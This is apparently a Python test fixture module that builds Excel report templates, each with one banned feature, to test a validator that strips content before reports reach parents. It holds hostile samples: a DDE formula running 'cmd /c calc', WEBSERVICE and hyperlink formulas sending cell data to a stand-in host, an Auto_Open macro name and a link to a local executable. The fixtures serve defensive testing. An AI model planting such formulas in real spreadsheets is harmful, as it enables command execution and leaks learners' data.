"""Templates that each carry one piece of what does not go to parents, by its word."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

from tests.reports.engine.making import make, parts, rezip

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def page(book: Any, sheet: Any) -> None:
    sheet.write("A1", "{{learner.first_name}}")
    book.set_properties({"author": "Pat Smith", "company": "The College", "manager": "Kim", "title": "Report"})
    sheet.write_comment("A1", "A note", {"author": "Pat Smith"})


def saved(folder: Path, content: bytes, name: str = "t.xlsx") -> Path:
    (folder / name).write_bytes(content)
    return folder / name


def with_formula(formula: str) -> bytes:
    def build(book: Any, sheet: Any) -> None:
        page(book, sheet)
        sheet.write_formula("B7", f"={formula}")

    return make(build)


def with_link(
    kind: str, target: str, source: str = "xl/workbook.xml", *, external: bool = False, data: str = ""
) -> bytes:
    content = parts(make(page))
    folder, _, name = source.rpartition("/")
    rels = f"{folder}/_rels/{name}.rels"
    mode = ' TargetMode="External"' if external else ""
    link = f'<Relationship Id="rId77" Type="{OFFICE}{kind}" Target="{target}"{mode}/></Relationships>'
    content[rels] = content[rels].replace(b"</Relationships>", link.encode())
    if data:
        content[f"xl/{target}"] = data.encode()
    return rezip(content)


def with_xml(part: str, before: str, new: str, of: bytes | None = None) -> bytes:
    """A template with a piece of XML put in before another in one of its parts."""
    content = parts(of or make(page))
    assert before.encode() in content[part], content[part]
    content[part] = content[part].replace(before.encode(), new.encode() + before.encode(), 1)
    return rezip(content)


def with_name(attributes: str) -> bytes:
    name = f"<definedNames><definedName {attributes}>1</definedName></definedNames>"
    return with_xml("xl/workbook.xml", "<calcPr", name)


def drawn(attributes: str, inside: str = "") -> bytes:
    """A template with a text box, and with more in its drawing."""

    def build(book: Any, sheet: Any) -> None:
        page(book, sheet)
        sheet.insert_textbox("D4", "Hello")

    whole = make(build)
    content = parts(whole)
    part = "xl/drawings/drawing1.xml"
    content[part] = (
        content[part]
        .replace(b'macro="" textlink=""', attributes.encode(), 1)
        .replace(b"<xdr:sp ", inside.encode() + b"<xdr:sp ", 1)
    )
    return rezip(content)


def charted(formula: str) -> bytes:
    def build(book: Any, sheet: Any) -> None:
        page(book, sheet)
        chart = book.add_chart({"type": "line"})
        chart.add_series({"values": "=Report!$B$1:$B$3"})
        sheet.insert_chart("D4", chart)

    content = parts(make(build))
    part = "xl/charts/chart1.xml"
    content[part] = content[part].replace(b"Report!$B$1:$B$3", formula.encode())
    return rezip(content)


def tabled(formula: str) -> bytes:
    def build(book: Any, sheet: Any) -> None:
        page(book, sheet)
        sheet.add_table("A9:B11", {"columns": [{"header": "One"}, {"header": "Two", "formula": formula}]})

    content = parts(make(build))
    content[SHEET] = re.sub(rb"<f>[^<]*</f>", b"", content[SHEET])  # in the table alone, as Excel keeps it for new rows
    return rezip(content)


def hidden(how: str) -> bytes:
    def build(book: Any, sheet: Any) -> None:
        page(book, sheet)
        other = book.add_worksheet("Helper")
        (other.very_hidden if how == "very" else other.hide)()

    return make(build)


BOOK = '<externalLink xmlns="x"><externalBook/></externalLink>'
SHEET = "xl/worksheets/sheet1.xml"
CASES = {
    "web": [with_formula('_xlfn.WEBSERVICE("http://x.test/?"&A1)'), with_formula('_xlfn.IMAGE("http://x.test")'),
            with_formula('RTD("a",,"b")'), with_formula("_xlfn.TRANSLATE(A1)"),
            tabled('_xlfn.WEBSERVICE("http://x.test")'),
            with_formula("""'a"b'!A1&_xlfn.WEBSERVICE("http://x.test")&'c"d'!A1"""),
            with_formula("MAP(A1,_xleta.WEBSERVICE)"),
            with_xml(SHEET, "</worksheet>", '<extLst><ext><x:f xmlns:x="y">WEBSERVICE("http://x.test")</x:f></ext></extLst>')],
    "hyperlink": [with_formula('HYPERLINK("http://x.test/?"&A1)'), with_formula("hyperlink(A1)"),
                  with_link("hyperlink", "http://x.test/?n={{learner.name}}", SHEET, external=True),
                  with_link("hyperlink", "file:///C:/x.exe", SHEET, external=True),
                  with_xml("xl/drawings/vmlDrawing1.vml", "<v:fill", '<a href="http://x.test"/>')],
    "workbooks": [with_formula("[1]Sheet!A1"), with_formula("SUM('[1]My sheet'!A:A)"),
                  with_link("externalLink", "externalLinks/e.xml", data=BOOK), charted("[1]Sheet!$A$1"),
                  with_formula("[1]!Total"), with_formula(r"'C:\x\book.xlsx'!Total"),
                  with_xml("xl/workbook.xml", "<calcPr",
                           "<externalReferences><externalReference/></externalReferences>"),
                  drawn('macro="" textlink="[1]Sheet!$A$1"')],
    "dde": [with_formula("cmd|'/c calc'!A0"), with_formula("'cmd'|'x'!'A0'"),
            with_link("externalLink", "externalLinks/e.xml", data=BOOK.replace("externalBook", "ddeLink"))],
    "ole": [with_link("oleObject", "embeddings/o.bin", SHEET, data="x"),
            with_link("package", "embeddings/o.docx", SHEET),
            with_link("externalLink", "externalLinks/e.xml", data=BOOK.replace("externalBook", "oleLink"))],
    "activex": [with_link("control", "activeX/activeX1.xml", SHEET, data="<x/>")],
    "queries": [with_link("connections", "connections.xml", data="<x/>"), with_link("queryTable", "q.xml", SHEET)],
    "macros": [with_link("vbaProject", "vbaProject.bin", data="x"), with_link("xlMacrosheet", "macrosheets/s.xml"),
               with_formula('CALL("a","b")'), with_formula('REGISTER.ID("a","b")'), drawn('macro="[0]!Go"'),
               with_formula("GET.WORKBOOK(1)"),
               with_xml("xl/drawings/vmlDrawing1.vml", "</x:ClientData>", "<x:FmlaMacro>[0]!Go</x:FmlaMacro>"),
               with_name('name="Auto_Open" xlm="1"')],
    "custom-xml": [with_link("customXml", "../customXml/item1.xml")],
    "fonts": [with_link("font", "fonts/f.odttf", data="x")],
    "pictures": [with_link("image", "http://x.test/p.png", SHEET, external=True),
                 with_xml("xl/drawings/vmlDrawing1.vml", "<v:fill", '<v:imagedata src="//x.test/p.png"/>')],
    "add-ins": [with_link("webextension", "webextensions/w.xml"), with_formula("_xll.SOMETHING(A1)")],
    "pivots": [with_link("pivotCacheDefinition", "pivotCache/p.xml", data="<x/>"),
               with_link("slicer", "slicers/s.xml", SHEET)],
    "hidden": [hidden("plainly"), hidden("very"),
               with_name('name="x" hidden="1"')],
    "other-parts": [with_link("somethingNew", "new/part.xml", data="<x/>")],
    "revisions": [with_link("revisionHeaders", "revisions/r.xml")],
    "other-links": [with_link("attachedTemplate", "http://x.test/t.xltx", external=True),
                    with_xml(SHEET, "<legacyDrawing", '<webPublishItems><webPublishItem/></webPublishItems>'),
                    with_xml("xl/workbook.xml", "<calcPr",
                             '<smartTagTypes><smartTagType url="http://x.test"/></smartTagTypes>')],
}  # fmt: skip
